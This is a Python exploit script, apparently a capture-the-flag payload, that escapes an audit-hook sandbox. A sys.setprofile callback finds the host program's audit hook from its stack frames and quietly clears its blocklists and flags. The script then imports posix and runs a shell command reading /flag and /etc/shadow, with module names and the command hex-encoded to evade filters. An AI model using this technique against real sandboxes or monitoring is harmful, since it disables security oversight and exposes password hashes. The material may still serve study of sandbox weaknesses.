# technique: a sys.setprofile callback (which keeps running after the untrusted code hands control back) inspects the embedding program's frames; it recognises that program's audit-hook function by its two-parameter signature and variable names, then neuters it without touching its code object: the globals and captured cells it consults (blocklists, "armed" flags) are emptied or flipped in place, which raises no audit event; only then is the shell reached
import sys

CELLS = bytes.fromhex("5f5f636c6f737572655f5f").decode()
LOADER = bytes.fromhex("5f5f696d706f72745f5f").decode()
NATIVE = bytes.fromhex("706f736978").decode()
COMMAND = bytes.fromhex("636174202f666c6167202f6574632f736861646f77").decode()
mine = globals()
done = []


def looks_like_hook(value):
    code = getattr(value, "__code__", None)
    if code is None or code.co_argcount != 2:
        return False
    names = " ".join(code.co_varnames + code.co_names).lower()
    return "event" in names or "audit" in names


def neuter(value, namespace):
    if isinstance(value, (set, list, dict)):
        value.clear()
        return value
    if value is True:
        return False
    return value


def defang(hook, namespace):
    for name in hook.__code__.co_names:
        if name in namespace:
            namespace[name] = neuter(namespace[name], namespace)
    for cell in getattr(hook, CELLS, None) or ():
        try:
            cell.cell_contents = neuter(cell.cell_contents, namespace)
        except ValueError:
            pass


def spy(frame, event, arg):
    if done:
        return
    outer = frame
    while outer is not None:
        namespace = outer.f_globals
        if namespace is not mine:
            for value in list(namespace.values()):
                if looks_like_hook(value):
                    defang(value, namespace)
                    done.append(outer)
        outer = outer.f_back
    if done:
        top = done[-1]
        native = top.f_builtins[LOADER](NATIVE)
        shell = next(v for v in vars(native).values() if "subshell" in (getattr(v, "__doc__", "") or ""))
        shell(COMMAND)


sys.setprofile(spy)
len(mine)  # any call produces a profile event while the embedding frames are still on the stack
